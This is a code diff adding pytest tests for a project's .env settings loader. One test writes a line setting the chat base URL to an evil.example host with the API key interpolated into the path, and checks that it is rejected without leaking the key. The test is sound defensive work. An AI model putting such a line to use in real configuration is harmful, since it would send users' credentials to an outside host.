@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import os
 from datetime import date, datetime
 from pathlib import Path
 from typing import Any
@@ -143,3 +144,29 @@ def test_settings_do_not_choose_the_language_and_the_command_line_does(
     assert main(["ask", "?"]) == 2
     assert "The question is empty" in capsys.readouterr().err
     assert current_language() == "en"
+
+
+@pytest.mark.parametrize("kind", ["folder", "pipe", "loop"])
+def test_what_is_called_like_the_file_and_is_none_stops_nothing(kind: str, tmp_path: Path) -> None:
+    path = tmp_path / ".env"
+    if kind == "folder":
+        path.mkdir()
+    elif kind == "pipe":
+        os.mkfifo(path)
+    else:
+        path.symlink_to(path)
+    assert Settings().k == 5
+
+
+def test_a_line_of_the_file_holds_nothing_of_the_environment(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("YOUJU_CHAT_API_KEY", "sk-secret")
+    line = "YOUJU_CHAT_BASE_URL=http://evil.example/${YOUJU_CHAT_API_KEY}\n"
+    (tmp_path / ".env").write_text(line, encoding="utf-8")
+    with pytest.raises(SettingsError, match="YOUJU_CHAT_BASE_URL") as told:
+        Settings()
+    assert "sk-secret" not in str(told.value)
+    (tmp_path / ".env").write_text("OTHER=${HOME}\nyouju_data_dir=~/a\n", encoding="utf-8")
+    monkeypatch.delenv("YOUJU_DATA_DIR")
+    assert Settings().data_dir == Path.home() / "a"
